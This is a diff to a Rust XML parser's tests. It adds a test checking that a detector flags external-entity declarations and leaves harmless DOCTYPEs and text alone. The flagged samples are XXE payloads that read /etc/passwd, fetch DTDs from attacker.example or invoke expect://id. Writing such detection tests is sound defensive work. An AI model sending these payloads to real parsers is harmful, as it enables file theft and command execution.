@@ -146,3 +146,27 @@ fn errors_carry_the_element_path() {
     let e = parse(b"<a><b/><b><c>&bogus;</c></b></a>", &XmlLimits::default()).expect_err("entity");
     assert_eq!(e.path(), Some("/a/b[2]/c"));
 }
+
+#[test]
+fn external_entities_are_told_from_public_dtds_and_text_entities() {
+    let external: &[&str] = &[
+        r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg/>"#,
+        r#"<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/evil.dtd"> %d;]><r/>"#,
+        r#"<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"#,
+        r#"<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//EN" 'http://attacker.example/x'>]><r>&x;</r>"#,
+        "\u{feff}<!-- c --><!DOCTYPE r [<!ENTITY\tx\tSYSTEM\t'expect://id'>]><r/>",
+    ];
+    let harmless: &[&str] = &[
+        r#"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
+        r#"<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY note "system notes">]><svg/>"#,
+        r#"<svg xmlns="http://www.w3.org/2000/svg"><text>SYSTEM "x"</text></svg>"#,
+        "GIF89a;<!DOCTYPE r SYSTEM \"x\">",
+        "",
+    ];
+    for doc in external {
+        assert!(super::declares_external_entity(doc.as_bytes()), "{doc}");
+    }
+    for doc in harmless {
+        assert!(!super::declares_external_entity(doc.as_bytes()), "{doc}");
+    }
+}
